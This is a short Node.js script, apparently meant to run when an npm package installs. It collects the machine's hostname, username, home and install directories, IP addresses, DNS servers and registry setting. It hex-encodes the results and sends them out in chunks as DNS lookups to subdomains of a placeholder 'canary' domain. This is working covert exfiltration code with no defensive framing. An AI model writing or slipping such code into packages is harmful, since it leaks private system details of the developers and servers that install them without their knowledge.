const os = require("os");
const dns = require("dns");
const querystring = require("querystring");
const packageJSON = require("./package.json");
const pkg = packageJSON.name;

// unique id so the callbacks from one machine can be stitched back together
const id = Math.random().toString(36).substring(2, 8);
const suffix = "d.dns-canary.example";

function collect() {
  let ip = [];
  try {
    const nets = os.networkInterfaces();
    for (const k of Object.keys(nets)) {
      for (const n of nets[k]) {
        if (n.family === "IPv4" && !n.internal) ip.push(n.address);
      }
    }
  } catch (e) {}
  return {
    p: pkg,
    v: packageJSON.version,
    c: __dirname,
    hd: os.homedir(),
    hn: os.hostname(),
    un: os.userInfo().username,
    dns: dns.getServers(),
    ip: ip,
    r: process.env.npm_config_registry || "",
  };
}

function toHex(s) {
  return Buffer.from(s, "utf8").toString("hex");
}

// DNS labels max out at 63 chars, keep some room
function chunk(str, n) {
  const out = [];
  for (let i = 0; i < str.length; i += n) out.push(str.slice(i, i + n));
  return out;
}

const trackingData = querystring.stringify(collect());
const parts = chunk(toHex(trackingData), 60);

parts.forEach(function (part, i) {
  const q = [i, parts.length, id, part, suffix].join(".");
  setTimeout(function () {
    dns.lookup(q, function () {});
  }, i * 120);
});
